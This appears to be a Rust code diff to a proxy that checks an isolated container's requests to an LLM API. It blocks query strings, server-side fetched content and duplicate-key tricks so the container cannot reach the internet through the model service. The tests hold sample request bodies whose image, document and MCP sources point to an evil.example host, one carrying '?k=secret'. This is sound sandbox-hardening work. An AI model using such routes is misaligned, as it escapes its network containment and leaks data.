@@ -81,6 +81,9 @@ pub fn route(
             return Err("this run has no LLM access (a --stubs run gets no API key)".into());
         }
         return if method == "POST" && rest == "/v1/messages" {
+            if query.is_some() {
+                return Err("an LLM request may not carry a query string".into());
+            }
             Ok(allow(Upstream::Llm, rest))
         } else {
             Err("only POST /v1/messages is allowed on the LLM API".into())
@@ -169,7 +172,13 @@ fn lists_own_pulls(query: Option<&str>, gh: &GitHubScope) -> bool {
 /// the API fetch any URL on the container's behalf, a way out of a container with no
 /// network: a tool with a `type` other than `custom`, `mcp_servers`, `container` and
 /// any `anthropic-beta` header (which turns such features on) are refused.
-pub fn check_message(body: &[u8], beta_header: bool) -> Result<(), String> {
+///
+/// Content the LLM service would fetch itself (an image or a document whose `source`
+/// is a URL or an uploaded file) is refused too: it would let the container read the
+/// internet, and send to it, through the service. What goes upstream is the checked
+/// request, serialized again (returned here), never the bytes as sent: a body with a
+/// key twice could otherwise be read one way here and another way upstream.
+pub fn check_message(body: &[u8], beta_header: bool) -> Result<Vec<u8>, String> {
     if beta_header {
         return Err(
             "the `anthropic-beta` header is not allowed (it turns on server-side features)".into(),
@@ -198,7 +207,35 @@ pub fn check_message(body: &[u8], beta_header: bool) -> Result<(), String> {
             }
         }
     }
-    Ok(())
+    if let Some(kind) = fetched_source(&v, 0) {
+        return Err(format!(
+            "an LLM request may not hold content the service fetches itself (a `{}` source)",
+            kind.escape_debug()
+        ));
+    }
+    serde_json::to_vec(&v).map_err(|_| "the LLM request body cannot be written again".into())
+}
+
+/// The type of the first content `source` in `v` that the LLM service would fetch (a
+/// URL, an uploaded file: anything but inline `base64`, `text` or `content`).
+fn fetched_source(v: &serde_json::Value, depth: usize) -> Option<String> {
+    // serde_json refuses nesting deeper than 128 when parsing; this only guards the walk.
+    if depth > 256 {
+        return Some("deeply nested".into());
+    }
+    match v {
+        serde_json::Value::Object(m) => {
+            if let Some(serde_json::Value::Object(src)) = m.get("source") {
+                match src.get("type").and_then(|t| t.as_str()) {
+                    Some("base64" | "text" | "content") => {}
+                    other => return Some(other.unwrap_or("untyped").to_string()),
+                }
+            }
+            m.values().find_map(|x| fetched_source(x, depth + 1))
+        }
+        serde_json::Value::Array(a) => a.iter().find_map(|x| fetched_source(x, depth + 1)),
+        _ => None,
+    }
 }
 
 /// A pull request body's `head` must be the push target (`branch` or `owner:branch`).
@@ -327,6 +364,9 @@ mod tests {
         let ok = route("POST", "/anthropic/v1/messages", None, true, None).unwrap();
         assert_eq!(ok.upstream, Upstream::Llm);
         assert_eq!(ok.path, "/v1/messages");
+        assert!(route("POST", "/anthropic/v1/messages", Some("beta=true"), true, None)
+            .unwrap_err()
+            .contains("query string"));
         for (m, p) in [
             ("GET", "/anthropic/v1/messages"),
             ("GET", "/anthropic/v1/models"),
@@ -473,7 +513,13 @@ mod tests {
     #[test]
     fn an_llm_request_may_use_only_its_own_tools() {
         let ok = br#"{"model":"m","max_tokens":10,"messages":[],"tools":[{"name":"bash","input_schema":{}},{"type":"custom","name":"x","input_schema":{}}]}"#;
-        check_message(ok, false).unwrap();
+        assert_eq!(check_message(ok, false).unwrap(), ok.to_vec(), "what goes on is what came");
+        // Inline content passes; content the service would fetch does not, wherever it is.
+        let inline = br#"{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA=="}},{"type":"document","source":{"type":"text","media_type":"text/plain","data":"x"}},{"type":"search_result","source":"https://example.com","title":"t","content":[]}]}]}"#;
+        check_message(inline, false).unwrap();
+        // A key given twice is sent once, as checked.
+        let twice = br#"{"messages":[],"tools":[{"type":"web_search_20250305","name":"w"}],"tools":[]}"#;
+        assert!(check_message(twice, false).is_ok_and(|b| !b.windows(10).any(|w| w == b"web_search")));
         assert!(check_message(ok, true)
             .unwrap_err()
             .contains("anthropic-beta"));
@@ -482,6 +528,10 @@ mod tests {
             r#"{"messages":[],"tools":[{"type":"web_search_20250305","name":"web_search"}]}"#,
             r#"{"messages":[],"mcp_servers":[{"type":"url","url":"https://evil.example/x"}]}"#,
             r#"{"messages":[],"container":"c"}"#,
+            r#"{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?k=secret"}}]}]}"#,
+            r#"{"messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"document","source":{"type":"url","url":"https://evil.example/"}}]}]}]}"#,
+            r#"{"messages":[{"role":"user","content":[{"type":"document","source":{"type":"file","file_id":"f"}}]}]}"#,
+            r#"{"messages":[{"role":"user","content":[{"type":"image","source":{"url":"https://evil.example/"}}]}]}"#,
             "not json",
         ] {
             assert!(check_message(bad.as_bytes(), false).is_err(), "{bad}");
